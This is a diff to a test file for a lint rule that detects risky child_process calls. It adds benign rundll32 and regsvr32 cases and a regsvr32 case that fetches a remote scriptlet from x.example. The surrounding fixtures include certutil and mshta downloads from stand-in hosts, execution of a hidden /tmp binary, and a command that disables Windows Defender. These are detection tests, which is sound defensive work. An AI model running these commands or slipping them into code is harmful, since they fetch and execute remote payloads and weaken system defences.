@@ -44,6 +44,8 @@ ruleTester(rule, {
     'const run = (cmd) => console.log(cmd); run("npm publish");',
     CP + 'cp.exec(`git log ${range} --format=%H`);',
     CP + 'cp.execFile("regedit.exe", ["/s", "settings.reg"]);',
+    CP + 'cp.exec(`rundll32 url.dll,FileProtocolHandler ${url}`);',
+    CP + 'cp.execSync("regsvr32 /s addin.dll");',
     'class Db { exec(sql) { return sql } }\nnew Db().exec("SELECT curl FROM t | sh");'.replace('new Db()', 'db'),
   ],
   invalid: [
@@ -76,6 +78,7 @@ ruleTester(rule, {
     { code: CP + 'cp.exec("certutil -urlcache -split -f http://203.0.113.7/a.exe a.exe");', errors: [{ messageId: 'lolbin', line: 2, column: 1 }] },
     { code: CP + 'cp.exec("mshta http://x.example/a.hta");', errors: [{ messageId: 'lolbin', line: 2, column: 1 }] },
     { code: CP + 'cp.spawnSync("rundll32.exe", ["payload.dll,Start"]);', errors: [{ messageId: 'lolbin', line: 2, column: 1 }] },
+    { code: CP + 'cp.exec("regsvr32 /s /n /u /i:http://x.example/f.sct scrobj.dll");', errors: [{ messageId: 'lolbin', line: 2, column: 1 }] },
     { code: CP + 'cp.spawn(process.execPath, ["-e", "require(\'./x\')"], { detached: true });', errors: [{ messageId: 'inlineCode', line: 2, column: 1, message: 'node -e' }] },
     { code: CP + 'cp.exec("chmod +x /tmp/.updater && /tmp/.updater &");', errors: [{ messageId: 'chmodExec', line: 2, column: 1 }] },
     { code: CP + 'cp.exec("powershell Set-MpPreference -DisableRealtimeMonitoring $true");', errors: [{ messageId: 'defenseEvasion', line: 2, column: 1 }] },
